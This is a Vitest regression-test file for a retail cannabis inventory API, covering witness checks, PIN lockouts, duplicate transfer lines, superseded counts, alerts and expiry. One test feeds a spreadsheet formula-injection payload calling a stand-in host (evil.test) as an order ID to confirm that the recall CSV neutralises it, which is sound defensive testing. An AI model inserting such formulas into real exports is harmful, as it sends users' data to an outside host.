// Defects found by a review of the inventory module, each kept as a regression test: a witness
// who does not work at the store, a transfer received with one package named twice, two counts of
// the same shelf both approved, and one SKU received in two units and sold across them.
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import type { LightMyRequestResponse } from 'fastify';
import { v7 as uuidv7 } from 'uuid';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sweepInventory } from '../../src/modules/inventory';
import { DEMO_PASSWORD } from '../../src/seed/demo-seed';
import { stockPackage, staffContext } from '../support/inventory-actors';
import { ensureStoreLocations } from '../../src/modules/inventory/inventory.ledger';
import { catalogSku, demoStores, expectLedgerBalanced, inventoryUnchangedBy, menuSku, newLabel, receivePackages, staffId, stockOf } from '../support/inventory-fixtures';
import { startTestServer, type TestServer } from '../support/test-server';

describe('inventory review', () => {
  let server: TestServer;
  let owner: string;
  let stores: { oakland: string; denver: string; berkeley: string };
  const db = () => server.platform.database.db;

  const call = (method: string, url: string, body?: unknown, requestId = uuidv7()) =>
    server.request({ method, url, cookie: owner, body, headers: { 'x-request-id': requestId } });

  /** Sends a request that must change nothing: no audit row and no inventory event follow it. */
  const unchangedBy = (send: (requestId: string) => Promise<LightMyRequestResponse>) => inventoryUnchangedBy(db(), send);

  const onHand = async (label: string) => (await stockOf(db(), label)).map((r) => ({ code: r.code, onHand: Number(r.on_hand) }));

  beforeAll(async () => {
    server = await startTestServer();
    owner = await server.login('owner');
    stores = await demoStores(server);
  });
  afterAll(() => server?.close());

  it('a destruction witness who does not work at the store is refused, and nothing is destroyed', async () => {
    const label = newLabel();
    await receivePackages(server, owner, stores.oakland, [{ label, skuId: randomUUID(), quantity: 10, locationCode: 'quarantine' }]);
    // A manager of the organization who works at Denver only, with a PIN: not in the Oakland vault room.
    const hired = await call('POST', '/v1/staff', {
      email: `denver-witness-${uuidv7()}@demo.verdant.test`,
      name: 'Denver Witness',
      role: 'manager',
      password: DEMO_PASSWORD,
      pin: '4321',
      storeIds: [stores.denver],
      currentPassword: DEMO_PASSWORD,
    });
    expect(hired.statusCode, hired.body).toBe(201);
    const destroy = (witnessId: string, witnessPin: string, requestId: string) =>
      call('POST', `/v1/stores/${stores.oakland}/packages/${label}/destroy`, { locationCode: 'quarantine', quantity: 4, method: 'compost', reasonCode: 'damaged', witnessId, witnessPin }, requestId);
    const refused = await unchangedBy((requestId) => destroy(hired.json().id, '4321', requestId));
    expect(refused.statusCode, refused.body).toBe(422);
    expect(refused.json().error).toMatchObject({ code: 'WITNESS_REQUIRED', details: { path: ['body', 'witnessId'] } });
    expect(await onHand(label)).toEqual([{ code: 'quarantine', onHand: 10 }]);
    // A witness who works there (every store) still confirms it.
    const done = await destroy(await staffId(server, 'manager'), '9999', uuidv7());
    expect(done.statusCode, done.body).toBe(200);
    expect(await onHand(label)).toEqual([{ code: 'quarantine', onHand: 6 }]);
  });

  it('a witness whose account is locked after failed sign-ins is refused before their PIN is tried', async () => {
    const label = newLabel();
    await receivePackages(server, owner, stores.oakland, [{ label, skuId: randomUUID(), quantity: 10, locationCode: 'quarantine' }]);
    const email = `locked-witness-${uuidv7()}@demo.verdant.test`;
    const hired = await call('POST', '/v1/staff', { email, name: 'Locked Witness', role: 'manager', password: DEMO_PASSWORD, pin: '4321', currentPassword: DEMO_PASSWORD });
    expect(hired.statusCode, hired.body).toBe(201);
    // Someone guesses at their password until the account locks (5 failures by default).
    for (let i = 0; i < 5; i += 1) await server.request({ method: 'POST', url: '/v1/auth/login', body: { email, password: `guess-${i}-wrong` } });
    expect((await server.request({ method: 'POST', url: '/v1/auth/login', body: { email, password: DEMO_PASSWORD } })).statusCode).toBe(429);
    const requestId = uuidv7();
    const refused = await call('POST', `/v1/stores/${stores.oakland}/packages/${label}/destroy`, { locationCode: 'quarantine', quantity: 4, method: 'compost', reasonCode: 'damaged', witnessId: hired.json().id, witnessPin: '4321' }, requestId);
    expect(refused.statusCode, refused.body).toBe(422);
    expect(refused.json().error).toMatchObject({ code: 'WITNESS_REQUIRED', details: { path: ['body', 'witnessId'] } });
    expect(await onHand(label)).toEqual([{ code: 'quarantine', onHand: 10 }]);
    // Only the attempt on the locked account is written down (someone may be guessing).
    expect(await db().selectFrom('audit_log').select('action').where('request_id', '=', requestId).execute()).toEqual([{ action: 'auth.witness.failed' }]);
  });

  it('wrong witness PINs count toward the witness’s lockout, as wrong PINs at a register do', async () => {
    const label = newLabel();
    await receivePackages(server, owner, stores.oakland, [{ label, skuId: randomUUID(), quantity: 10, locationCode: 'quarantine' }]);
    const email = `guessed-witness-${uuidv7()}@demo.verdant.test`;
    const hired = await call('POST', '/v1/staff', { email, name: 'Guessed Witness', role: 'manager', password: DEMO_PASSWORD, pin: '4321', currentPassword: DEMO_PASSWORD });
    expect(hired.statusCode, hired.body).toBe(201);
    const destroy = (witnessPin: string) =>
      call('POST', `/v1/stores/${stores.oakland}/packages/${label}/destroy`, { locationCode: 'quarantine', quantity: 1, method: 'compost', reasonCode: 'damaged', witnessId: hired.json().id, witnessPin }, uuidv7());
    // Five wrong PINs (the default LOGIN_MAX_FAILURES): each refused and counted; the fifth locks the account.
    for (const [i, pin] of ['0000', '1111', '2222', '3333', '5555'].entries()) {
      const wrong = await destroy(pin);
      expect(wrong.statusCode, wrong.body).toBe(422);
      expect(wrong.json().error.details.path).toEqual(['body', i < 4 ? 'witnessPin' : 'witnessId']);
    }
    // The right PIN now finds the account locked: refused, nothing destroyed; the sign-in is locked too.
    const right = await destroy('4321');
    expect(right.json().error).toMatchObject({ code: 'WITNESS_REQUIRED', details: { path: ['body', 'witnessId'] } });
    expect(await onHand(label)).toEqual([{ code: 'quarantine', onHand: 10 }]);
    expect((await server.request({ method: 'POST', url: '/v1/auth/login', body: { email, password: DEMO_PASSWORD } })).statusCode).toBe(429);
    const failures = await db().selectFrom('audit_log').select('action').where('entity_id', '=', hired.json().id).where('action', '=', 'auth.witness.failed').execute();
    expect(failures).toHaveLength(6);
  });

  it('a transfer received with one package named twice is refused, and stays in transit', async () => {
    const label = newLabel();
    await receivePackages(server, owner, stores.oakland, [{ label, skuId: randomUUID(), quantity: 10, locationCode: 'vault' }]);
    const shipped = await call('POST', '/v1/inventory/transfers', { fromStoreId: stores.oakland, toStoreId: stores.berkeley, items: [{ packageLabel: label, quantity: 5 }] });
    expect(shipped.statusCode, shipped.body).toBe(201);
    const id = shipped.json().id;
    // Which of the two is what arrived? Taking the last one silently would write 2 off as missing.
    const refused = await unchangedBy((requestId) =>
      call('POST', `/v1/inventory/transfers/${id}/receive`, { items: [{ packageLabel: label, receivedQuantity: 5 }, { packageLabel: label, receivedQuantity: 3 }] }, requestId),
    );
    expect(refused.statusCode, refused.body).toBe(400);
    expect(refused.json().error).toMatchObject({ code: 'DUPLICATE_LINE', details: { path: ['body', 'items', 1, 'packageLabel'] } });
    expect((await call('GET', `/v1/inventory/transfers/${id}`)).json()).toMatchObject({ status: 'in_transit', items: [{ receivedQuantity: null }] });
    const received = await call('POST', `/v1/inventory/transfers/${id}/receive`, { items: [{ packageLabel: label, receivedQuantity: 5 }] });
    expect(received.statusCode, received.body).toBe(200);
    await expectLedgerBalanced(db());
  });

  it('two counts of the same shelf: the second approval is refused instead of booking the same shortfall twice', async () => {
    const skuId = randomUUID();
    const label = newLabel();
    await receivePackages(server, owner, stores.oakland, [{ label, skuId, quantity: 10, locationCode: 'sales_floor' }]);
    const counts: string[] = [];
    for (let i = 0; i < 2; i += 1) {
      const started = await call('POST', `/v1/stores/${stores.oakland}/counts`, { kind: 'cycle', locationCode: 'sales_floor', skuIds: [skuId] });
      expect(started.statusCode, started.body).toBe(201);
      counts.push(started.json().id);
    }
    // Two people find the same 8 on the shelf; both counts are submitted before either is decided.
    for (const id of counts) {
      expect((await call('POST', `/v1/stores/${stores.oakland}/counts/${id}/lines`, { lines: [{ packageLabel: label, locationCode: 'sales_floor', countedQuantity: 8 }] })).statusCode).toBe(200);
      expect((await call('POST', `/v1/stores/${stores.oakland}/counts/${id}/submit`)).statusCode).toBe(200);
    }
    const first = await call('POST', `/v1/stores/${stores.oakland}/counts/${counts[0]}/decision`, { decision: 'approve' });
    expect(first.statusCode, first.body).toBe(200);
    expect(await onHand(label)).toEqual([{ code: 'sales_floor', onHand: 8 }]);
    const second = await unchangedBy((requestId) => call('POST', `/v1/stores/${stores.oakland}/counts/${counts[1]}/decision`, { decision: 'approve' }, requestId));
    expect(second.statusCode, second.body).toBe(409);
    expect(second.json().error).toMatchObject({ code: 'COUNT_SUPERSEDED', details: { countId: counts[1], supersededBy: [counts[0]], lines: [{ packageLabel: label, locationCode: 'sales_floor' }] } });
    expect(await onHand(label)).toEqual([{ code: 'sales_floor', onHand: 8 }]);
    expect((await call('GET', `/v1/stores/${stores.oakland}/counts/${counts[1]}`)).json().status).toBe('submitted');
    // It can still be rejected, and a count that shares no line with an approved one is approved.
    expect((await call('POST', `/v1/stores/${stores.oakland}/counts/${counts[1]}/decision`, { decision: 'reject' })).statusCode).toBe(200);
    const third = await call('POST', `/v1/stores/${stores.oakland}/counts`, { kind: 'cycle', locationCode: 'sales_floor', skuIds: [skuId] });
    await call('POST', `/v1/stores/${stores.oakland}/counts/${third.json().id}/lines`, { lines: [{ packageLabel: label, locationCode: 'sales_floor', countedQuantity: 7 }] });
    await call('POST', `/v1/stores/${stores.oakland}/counts/${third.json().id}/submit`);
    expect((await call('POST', `/v1/stores/${stores.oakland}/counts/${third.json().id}/decision`, { decision: 'approve' })).statusCode).toBe(200);
    expect(await onHand(label)).toEqual([{ code: 'sales_floor', onHand: 7 }]);
    await expectLedgerBalanced(db());
  });

  it('a sale between counting a shelf and submitting the count does not hide the shortfall', async () => {
    const skuId = randomUUID();
    const label = newLabel();
    await receivePackages(server, owner, stores.oakland, [{ label, skuId, quantity: 10, locationCode: 'sales_floor' }]);
    const count = (await call('POST', `/v1/stores/${stores.oakland}/counts`, { kind: 'cycle', locationCode: 'sales_floor', skuIds: [skuId] })).json().id;
    // 8 on the shelf where the ledger says 10: 2 are missing.
    expect((await call('POST', `/v1/stores/${stores.oakland}/counts/${count}/lines`, { lines: [{ packageLabel: label, locationCode: 'sales_floor', countedQuantity: 8 }] })).statusCode).toBe(200);
    // Counting blind: what the ledger expects is not shown while the count is open, in the count or the list.
    const open = (await call('GET', `/v1/stores/${stores.oakland}/counts/${count}`)).json();
    expect(open.lines).toEqual([expect.objectContaining({ packageLabel: label, expectedQuantity: null, countedQuantity: 8, variance: null })]);
    expect(open.summary).toMatchObject({ withVariance: 0, over: { each: 0, mg: 0 }, short: { each: 0, mg: 0 } });
    const listed = (await call('GET', `/v1/stores/${stores.oakland}/counts?status=open`)).json().counts.find((c: { id: string }) => c.id === count);
    expect(listed.summary).toMatchObject({ counted: 1, withVariance: 0, over: { each: 0, mg: 0 }, short: { each: 0, mg: 0 } });
    // The store stays open: one is sold before the count is submitted (7 on the shelf, 9 in the ledger).
    const sold = await call('POST', `/v1/stores/${stores.oakland}/sales`, { lines: [{ skuId, quantity: 1, packageLabel: label }], reference: { orderId: `order-${uuidv7()}` } });
    expect(sold.statusCode, sold.body).toBe(201);
    const submitted = (await call('POST', `/v1/stores/${stores.oakland}/counts/${count}/submit`)).json();
    expect(submitted.lines).toEqual([expect.objectContaining({ expectedQuantity: 10, countedQuantity: 8, variance: -2 })]);
    expect((await call('POST', `/v1/stores/${stores.oakland}/counts/${count}/decision`, { decision: 'approve' })).statusCode).toBe(200);
    expect(await onHand(label)).toEqual([{ code: 'sales_floor', onHand: 7 }]);
    await expectLedgerBalanced(db());
  });

  it('a low-stock alert acknowledged is not raised again by the next sale, and is resolved when stock comes back', async () => {
    const { skuId } = await catalogSku(server, owner);
    await receivePackages(server, owner, stores.oakland, [{ label: newLabel(), skuId, quantity: 3 }]);
    expect((await call('PUT', `/v1/stores/${stores.oakland}/reorder-points/${skuId}`, { reorderAt: 5, reorderQuantity: 20 })).statusCode).toBe(200);
    const lowStock = async () =>
      (await db().selectFrom('inventory_alert').select(['id', 'status']).where('kind', '=', 'low_stock').where('sku_id', '=', skuId).orderBy('created_at').execute()).map((a) => a.status);
    expect(await lowStock()).toEqual(['open']);
    const [alert] = (await call('GET', `/v1/inventory/alerts?kind=low_stock&status=open&storeId=${stores.oakland}`)).json().alerts.filter((a: { skuId: string }) => a.skuId === skuId);
    expect((await call('POST', `/v1/inventory/alerts/${alert.id}/acknowledge`, { note: 'ordered 20' })).statusCode).toBe(200);
    // Seen and acted on: the same condition is still the same alert, not a new one at every sale.
    const raisedBefore = await db().selectFrom('outbox_event').select('id').where('type', '=', 'inventory.alert.raised').execute();
    const sold = await call('POST', `/v1/stores/${stores.oakland}/sales`, { lines: [{ skuId, quantity: 1 }], reference: { orderId: `order-${uuidv7()}` } });
    expect(sold.statusCode, sold.body).toBe(201);
    expect(await lowStock()).toEqual(['acknowledged']);
    expect(await db().selectFrom('outbox_event').select('id').where('type', '=', 'inventory.alert.raised').execute()).toHaveLength(raisedBefore.length);
    // The order arrives: the condition ends, and so does the alert.
    await receivePackages(server, owner, stores.oakland, [{ label: newLabel(), skuId, quantity: 20 }]);
    expect(await lowStock()).toEqual(['resolved']);
  });

  it('an acknowledged alert can still be resolved by hand', async () => {
    const { skuId } = await catalogSku(server, owner);
    await receivePackages(server, owner, stores.oakland, [{ label: newLabel(), skuId, quantity: 1 }]);
    await call('PUT', `/v1/stores/${stores.oakland}/reorder-points/${skuId}`, { reorderAt: 5, reorderQuantity: 20 });
    const alert = await db().selectFrom('inventory_alert').select('id').where('kind', '=', 'low_stock').where('sku_id', '=', skuId).executeTakeFirstOrThrow();
    expect((await call('POST', `/v1/inventory/alerts/${alert.id}/acknowledge`, {})).json()).toEqual({ id: alert.id, status: 'acknowledged' });
    const twice = await call('POST', `/v1/inventory/alerts/${alert.id}/acknowledge`, {});
    expect(twice.statusCode).toBe(404);
    const resolved = await call('POST', `/v1/inventory/alerts/${alert.id}/acknowledge`, { resolve: true, note: 'discontinued' });
    expect(resolved.statusCode, resolved.body).toBe(200);
    expect(resolved.json()).toEqual({ id: alert.id, status: 'resolved' });
  });

  it('a failed lab alert ends when a retest passes, so a later failure raises a new one', async () => {
    const batch = await call('POST', '/v1/inventory/batches', { code: `B-REV-${randomUUID().slice(0, 6)}`, producerLicense: 'CCL20-0000123' });
    expect(batch.statusCode, batch.body).toBe(201);
    const test = (testedOn: string, status: 'pass' | 'fail') =>
      call('POST', `/v1/inventory/batches/${batch.json().id}/lab-results`, { labName: 'SC Labs', testedOn, cannabinoids: [], contaminants: [{ panel: 'pesticides', status }] });
    const alerts = async () =>
      (await db().selectFrom('inventory_alert').select('status').where('kind', '=', 'lab_failed').where('dedupe_key', '=', `lab_failed:${batch.json().id}`).orderBy('created_at').execute()).map((a) => a.status);
    expect((await test('2026-08-01', 'fail')).json().labStatus).toBe('failed');
    expect(await alerts()).toEqual(['open']);
    expect((await test('2026-08-05', 'pass')).json().labStatus).toBe('passed');
    expect(await alerts()).toEqual(['resolved']);
    // Failing again is a new finding: it must not be swallowed by the old alert.
    expect((await test('2026-08-09', 'fail')).json().labStatus).toBe('failed');
    expect(await alerts()).toEqual(['resolved', 'open']);
  });

  it('a drift alert ends when reconciliation finds the counters equal to the ledger again', async () => {
    const label = newLabel();
    await receivePackages(server, owner, stores.oakland, [{ label, skuId: randomUUID(), quantity: 10, locationCode: 'vault' }]);
    const row = await db().selectFrom('inventory_stock as s').innerJoin('inventory_package as p', 'p.id', 's.package_id').select(['s.package_id', 's.location_id']).where('p.label', '=', label).executeTakeFirstOrThrow();
    const setOnHand = (onHand: number) => db().updateTable('inventory_stock').set({ on_hand: onHand }).where('package_id', '=', row.package_id).where('location_id', '=', row.location_id).execute();
    const alerts = async () =>
      (await db().selectFrom('inventory_alert').select('status').where('dedupe_key', '=', `drift:${row.package_id}:${row.location_id}`).orderBy('created_at').execute()).map((a) => a.status);
    await setOnHand(9); // something wrote around the ledger
    expect((await call('POST', '/v1/inventory/reconciliations')).json().drifts).toEqual([expect.objectContaining({ packageId: row.package_id, counterOnHand: 9, ledgerOnHand: 10 })]);
    expect(await alerts()).toEqual(['open']);
    await setOnHand(10); // someone looked and put it right
    expect((await call('POST', '/v1/inventory/reconciliations')).json().drifts).toEqual([]);
    expect(await alerts()).toEqual(['resolved']);
  });

  it('a recall’s CSV never hands a spreadsheet a formula typed as an order or customer reference', async () => {
    const skuId = randomUUID();
    const label = newLabel();
    await receivePackages(server, owner, stores.oakland, [{ label, skuId, quantity: 5 }]);
    const orderId = '=HYPERLINK("http://evil.test/?"&A1,"open")';
    const sold = await call('POST', `/v1/stores/${stores.oakland}/sales`, { lines: [{ skuId, quantity: 1, packageLabel: label }], reference: { orderId, customerId: '+1-555-0100', channel: '@pos' } });
    expect(sold.statusCode, sold.body).toBe(201);
    const csv = await call('GET', `/v1/inventory/recalls/trace?packageLabel=${label}&format=csv`);
    expect(csv.statusCode).toBe(200);
    const [row] = parse(csv.body, { columns: true }) as Array<Record<string, string>>;
    // Kept as text (a leading apostrophe, as the compliance and sales CSVs do), not run.
    expect(row).toMatchObject({ order_id: `'${orderId}`, customer_id: "'+1-555-0100", channel: "'@pos", package_label: label, quantity: '1' });
    // The JSON trace keeps them as they were sent.
    expect((await call('GET', `/v1/inventory/recalls/trace?packageLabel=${label}`)).json().sales[0]).toMatchObject({ orderId, customerId: '+1-555-0100', channel: '@pos' });
  });

  it('a hold whose counters drifted does not stop every other hold from expiring', async () => {
    const skuId = randomUUID();
    const [stuck, due] = [newLabel(), newLabel()];
    await receivePackages(server, owner, stores.oakland, [{ label: stuck, skuId, quantity: 5 }, { label: due, skuId, quantity: 5 }]);
    const hold = async (label: string) => {
      const taken = await call('POST', `/v1/stores/${stores.oakland}/reservations`, { lines: [{ skuId, quantity: 2, packageLabel: label }], ttlSeconds: 60, reference: `cart-${label}` });
      expect(taken.statusCode, taken.body).toBe(201);
      return taken.json().id as string;
    };
    const [stuckHold, dueHold] = [await hold(stuck), await hold(due)];
    // Both are past their time; something wrote around the ledger under the first one's row.
    await db().updateTable('inventory_reservation').set({ expires_at: new Date(Date.now() - 60_000) }).where('id', 'in', [stuckHold, dueHold]).execute();
    const stuckRow = await db().selectFrom('inventory_stock as s').innerJoin('inventory_package as p', 'p.id', 's.package_id').select(['s.package_id', 's.location_id']).where('p.label', '=', stuck).executeTakeFirstOrThrow();
    await db().updateTable('inventory_stock').set({ reserved: 0 }).where('package_id', '=', stuckRow.package_id).where('location_id', '=', stuckRow.location_id).execute();
    const swept = await sweepInventory(server.platform);
    expect(swept.expiredReservations).toBeGreaterThanOrEqual(1);
    const status = async (id: string) => (await db().selectFrom('inventory_reservation').select('status').where('id', '=', id).executeTakeFirstOrThrow()).status;
    expect(await status(dueHold)).toBe('expired');
    expect(await onHand(due)).toEqual([{ code: 'sales_floor', onHand: 5 }]);
    expect(Number((await stockOf(db(), due))[0].reserved)).toBe(0);
    // The drifted one stays held for a person to look at (reconciliation names it).
    expect(await status(stuckHold)).toBe('held');
    await db().updateTable('inventory_stock').set({ reserved: 2 }).where('package_id', '=', stuckRow.package_id).where('location_id', '=', stuckRow.location_id).execute();
    await sweepInventory(server.platform);
    expect(await status(stuckHold)).toBe('expired');
    await expectLedgerBalanced(db());
  });

  describe('one SKU, one unit', () => {
    it('a manifest receiving a SKU in another unit than its packages is refused, and enters nothing', async () => {
      const skuId = randomUUID();
      await receivePackages(server, owner, stores.oakland, [{ label: newLabel(), skuId, quantity: 2, unit: 'each' }]);
      const number = `M-${randomUUID().slice(0, 8)}`;
      const item = (unit: string) => ({ packageLabel: newLabel(), skuId, unit, expectedQuantity: 3500, batch: { code: `B-${randomUUID().slice(0, 6)}`, producerLicense: 'CCL20-0000123' } });
      const refused = await unchangedBy((requestId) => call('POST', `/v1/stores/${stores.oakland}/manifests`, { number, items: [item('mg')] }, requestId));
      expect(refused.statusCode, refused.body).toBe(422);
      expect(refused.json().error).toMatchObject({ code: 'UNIT_MISMATCH', details: { path: ['body', 'items', 0, 'unit'], packageUnit: 'each' } });
      // Two items of one new SKU in two units, in one manifest: the second is refused.
      const fresh = randomUUID();
      const both = await call('POST', `/v1/stores/${stores.oakland}/manifests`, { number, items: [{ ...item('each'), skuId: fresh }, { ...item('mg'), skuId: fresh }] });
      expect(both.statusCode, both.body).toBe(422);
      expect(both.json().error).toMatchObject({ code: 'UNIT_MISMATCH', details: { path: ['body', 'items', 1, 'unit'] } });
      expect(await db().selectFrom('inventory_manifest').select('id').where('number', '=', number).execute()).toEqual([]);
    });

    it('a manifest receiving a catalog SKU in another unit than the catalog sells it by is refused', async () => {
      const { skuId } = await catalogSku(server, owner); // a prepackaged 3.5 g jar: sold by the unit
      const item = { packageLabel: newLabel(), skuId, unit: 'mg', expectedQuantity: 3500, batch: { code: `B-${randomUUID().slice(0, 6)}`, producerLicense: 'CCL20-0000123' } };
      const refused = await unchangedBy((requestId) => call('POST', `/v1/stores/${stores.oakland}/manifests`, { number: `M-${randomUUID().slice(0, 8)}`, items: [item] }, requestId));
      expect(refused.statusCode, refused.body).toBe(422);
      expect(refused.json().error).toMatchObject({ code: 'UNIT_MISMATCH', details: { path: ['body', 'items', 0, 'unit'], packageUnit: 'each' } });
      const right = await call('POST', `/v1/stores/${stores.oakland}/manifests`, { number: `M-${randomUUID().slice(0, 8)}`, items: [{ ...item, unit: 'each', expectedQuantity: 10 }] });
      expect(right.statusCode, right.body).toBe(201);
    });

    it('a sale line without a unit never adds grams to units of one SKU stocked both ways', async () => {
      const skuId = randomUUID();
      const context = staffContext(server.organizationId);
      // Stock entered before the manifest check: 2 units, and 3,500 mg of the same SKU.
      const each = newLabel();
      await stockPackage(server.platform, context, { storeId: stores.oakland, label: each, skuId, quantity: 2, unit: 'each', expiresOn: '2099-01-01' });
      const mg = newLabel();
      await stockPackage(server.platform, context, { storeId: stores.oakland, label: mg, skuId, quantity: 3500, unit: 'mg', expiresOn: '2099-06-01' });
      const sold = await unchangedBy((requestId) => call('POST', `/v1/stores/${stores.oakland}/sales`, { lines: [{ skuId, quantity: 5 }], reference: { orderId: `order-${uuidv7()}` } }, requestId));
      expect(sold.statusCode, sold.body).toBe(422);
      expect(sold.json().error).toMatchObject({ code: 'UNIT_MISMATCH', details: { path: ['lines', 0, 'unit'] } });
      expect(await onHand(each)).toEqual([{ code: 'sales_floor', onHand: 2 }]);
      expect(await onHand(mg)).toEqual([{ code: 'sales_floor', onHand: 3500 }]);
      // Naming the unit sells from the packages of that unit only.
      const grams = await call('POST', `/v1/stores/${stores.oakland}/sales`, { lines: [{ skuId, quantity: 5, unit: 'mg' }], reference: { orderId: `order-${uuidv7()}` } });
      expect(grams.statusCode, grams.body).toBe(201);
      expect(grams.json().lines[0].picks).toEqual([expect.objectContaining({ packageLabel: mg, quantity: 5, unit: 'mg' })]);
      await expectLedgerBalanced(db());
    });
  });

  it('expiry is judged on the store’s own day: a package sells through its last day there, and not a day after', async () => {
    // A store whose day is not UTC's now: twelve hours behind UTC before 11:00 UTC, fourteen ahead
    // after (at least an hour from its midnight either way, so the day cannot turn mid-test).
    const timezone = new Date().getUTCHours() < 11 ? 'Etc/GMT+12' : 'Etc/GMT-14';
    const day = (offsetDays: number) => {
      const [y, m, d] = new Intl.DateTimeFormat('en-CA', { timeZone: timezone, year: 'numeric', month: '2-digit', day: '2-digit' }).format(new Date()).split('-').map(Number);
      return new Date(Date.UTC(y, m - 1, d + offsetDays)).toISOString().slice(0, 10);
    };
    const storeId = randomUUID();
    await db()
      .insertInto('store')
      .values({ id: storeId, organization_id: server.organizationId, name: 'Green Door Dateline', license_number: 'C10-0000077-LIC', jurisdiction: 'US-CA', timezone })
      .execute();
    await ensureStoreLocations(db() as never, server.organizationId, storeId);
    const skuId = await menuSku(server, owner, storeId, `DL-${randomUUID().slice(0, 6)}`);
    const [lastDay, dayAfter] = [newLabel(), newLabel()];
    await receivePackages(server, owner, storeId, [
      { label: lastDay, skuId, quantity: 3, expiresOn: day(0) },
      { label: dayAfter, skuId, quantity: 5, expiresOn: day(-1) },
    ]);

    // The office's availability and the store's online menu count the last day's package only.
    const office = await call('GET', `/v1/stores/${storeId}/availability?skuIds=${skuId}`);
    expect(office.json().items).toEqual([expect.objectContaining({ skuId, available: 3, next: expect.objectContaining({ packageLabel: lastDay }) })]);
    const menu = await server.request({ method: 'GET', url: `/v1/public/stores/${storeId}/availability?skuIds=${skuId}` });
    expect(menu.json().items).toEqual([expect.objectContaining({ skuId, available: 3 })]);
    const inStock = await server.request({ method: 'GET', url: `/v1/public/stores/${storeId}/products?inStock=true` });
    expect(inStock.json().products.map((p: { title: string }) => p.title)).toEqual([expect.stringContaining('Menu Probe DL-')]);

    // A hold on the package a day past: refused as not sellable. On its last day: held.
    const hold = (label: string) => call('POST', `/v1/stores/${storeId}/reservations`, { lines: [{ skuId, quantity: 1, packageLabel: label }], ttlSeconds: 60, reference: `expiry ${label}` });
    const refused = await hold(dayAfter);
    expect(refused.statusCode, refused.body).toBe(409);
    expect(refused.json().error.code).toBe('PACKAGE_NOT_SELLABLE');
    const held = await hold(lastDay);
    expect(held.statusCode, held.body).toBe(201);
    const released = await call('POST', `/v1/inventory/reservations/${held.json().id}/release`, {});
    expect(released.statusCode, released.body).toBe(200);

    // The sweeper marks only the package whose day has ended at its store.
    await sweepInventory(server.platform);
    const statuses = await db().selectFrom('inventory_package').select(['label', 'status']).where('label', 'in', [lastDay, dayAfter]).orderBy('label').execute();
    expect(Object.fromEntries(statuses.map((r) => [r.label, r.status]))).toEqual({ [lastDay]: 'active', [dayAfter]: 'expired' });
    await expectLedgerBalanced(db());
  });
});
